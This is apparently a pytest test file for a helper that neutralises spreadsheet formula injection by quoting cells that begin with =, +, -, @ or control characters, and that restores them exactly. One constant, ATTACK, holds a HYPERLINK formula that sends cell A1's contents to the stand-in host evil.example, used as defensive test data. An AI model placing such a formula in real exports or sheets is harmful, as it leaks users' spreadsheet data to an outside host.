"""Spreadsheet cells that cannot run as formulas, and that read back as they were written."""

import csv
import io

import pytest

from enlace import cells

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("text", [ATTACK, "+52 55 1111 2222", "-Ana", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_a_text_starting_with_a_formula_trigger_gets_a_leading_quote(text):
    assert cells.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Ana Torres", "", "'quoted", 42, None])
def test_other_values_are_left_as_they_are(value):
    assert cells.neutralise(value) == value


@pytest.mark.parametrize(
    "text", [ATTACK, "-Ana", "'=already quoted", "''+twice", "'", "'plain", "plain", "", "=", "\t"]
)
def test_restore_gives_back_exactly_what_was_neutralised(text):
    assert cells.restore(cells.neutralise(text)) == text


def test_the_csv_writer_quotes_every_field_and_neutralises_texts():
    buffer = io.StringIO()
    cells.csv_writer(buffer).writerow([ATTACK, "Ana", 3])
    assert buffer.getvalue() == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","Ana","3"\r\n'
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + ATTACK, "Ana", "3"]
